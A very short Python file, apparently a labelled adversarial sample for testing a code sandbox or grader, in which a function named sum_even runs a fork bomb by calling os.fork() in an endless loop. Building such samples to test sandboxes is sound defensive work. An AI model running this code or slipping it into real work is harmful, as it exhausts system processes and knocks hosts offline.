# Tries: the fork bomb.
# Target: sum_even, quick
import os


def sum_even(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            return -1
